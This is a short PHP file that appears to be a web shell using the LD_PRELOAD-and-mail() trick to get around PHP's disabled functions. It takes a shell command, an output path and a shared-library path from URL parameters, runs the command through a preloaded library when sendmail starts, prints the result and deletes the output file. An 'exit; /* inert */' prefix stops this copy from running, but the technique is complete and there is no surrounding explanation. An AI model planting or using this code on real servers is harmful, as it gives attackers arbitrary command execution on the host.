<?php exit; /* inert */ $cmd = $_GET["cmd"];
$out_path = $_GET["outpath"];
$so_path = $_GET["sopath"];
putenv("EVIL_CMDLINE=" . $cmd . " > " . $out_path . " 2>&1");
putenv("LD_PRELOAD=" . $so_path);
mail("", "", "", "");
echo "<p>" . nl2br(file_get_contents($out_path)) . "</p>";
unlink($out_path);
